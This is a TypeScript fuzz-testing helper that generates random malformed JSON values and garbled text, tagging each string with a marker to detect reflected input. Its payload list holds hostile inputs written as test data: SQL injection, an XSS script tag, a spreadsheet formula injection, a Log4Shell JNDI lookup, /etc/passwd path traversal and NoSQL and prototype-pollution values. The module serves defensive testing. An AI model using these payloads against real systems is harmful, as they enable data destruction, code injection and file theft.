import type { Random } from '../demo/random';

/** Stands in every text that is sent; an answer or a log that holds it has repeated what somebody typed. */
export const MARKER = 'Zq7Rekaan';

const TEXTS = [
  '',
  ' ',
  "'; DROP TABLE act_log; --",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://contoh.invalid")',
  '${jndi:ldap://contoh.invalid/a}',
  '../../../../etc/passwd',
  '%00%0a%0d',
  'a\u0000b',
  '\u202e\u200b\ufeff',
  '\ud800',
  '💥'.repeat(50),
  'x'.repeat(5_000),
  '{"$gt": ""}',
  '2026-02-30T25:61:61Z',
  '-1',
  'NaN',
  '__proto__',
];
const NUMBERS = [0, -0, -1, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e308, 5e-324];
const NAMES = ['__proto__', 'constructor', 'toString', 'id', 'caseId', 'input', 'first', 'data', '', 'a b'];

/** Any JSON value, mostly small and now and then deep, wide or absurd. Every text in it carries the marker. */
export function strangeValue(random: Random, depth = 3): unknown {
  const kind = random.whole(0, depth > 0 ? 7 : 5);
  if (kind === 0) return null;
  if (kind === 1) return random.chance(0.5);
  if (kind === 2) return random.pick(NUMBERS);
  if (kind <= 5) return strangeText(random);
  if (kind === 6) return Array.from({ length: random.whole(0, 5) }, () => strangeValue(random, depth - 1));
  return Object.fromEntries(
    Array.from({ length: random.whole(0, 4) }, () => [random.pick(NAMES), strangeValue(random, depth - 1)]),
  );
}

export function strangeText(random: Random): string {
  return `${MARKER}${random.pick(TEXTS)}`;
}

/** The same value with one place in it made strange, removed or repeated. */
export function mutated(value: unknown, random: Random): unknown {
  if (random.chance(0.2) || typeof value !== 'object' || value === null) return strangeValue(random);
  if (Array.isArray(value)) {
    if (value.length === 0) return [strangeValue(random)];
    const at = random.whole(0, value.length - 1);
    const copy: unknown[] = [...(value as unknown[])];
    if (random.chance(0.2)) copy.splice(at, 1);
    else copy[at] = mutated(copy[at], random);
    return copy;
  }
  const entries = Object.entries(value);
  if (entries.length === 0) return { [random.pick(NAMES)]: strangeValue(random) };
  const at = random.whole(0, entries.length - 1);
  return Object.fromEntries(
    entries.flatMap(([name, member], index) => {
      if (index !== at) return [[name, member]];
      if (random.chance(0.15)) return [];
      if (random.chance(0.1)) return [[random.pick(NAMES), member]];
      return [[name, mutated(member, random)]];
    }),
  );
}

/** The same text with a stretch of it cut out, doubled, moved or replaced: hardly ever well formed. */
export function garbled(text: string, random: Random): string {
  const from = random.whole(0, text.length);
  const to = Math.min(text.length, from + random.whole(1, 40));
  const piece = text.slice(from, to);
  const other = random.pick([
    '{',
    '}',
    '"',
    '(',
    '$',
    '...',
    '@skip(if:true)',
    '\u0000',
    '[',
    '#',
    ',',
    piece + piece,
    '',
  ]);
  return text.slice(0, from) + other + text.slice(to);
}
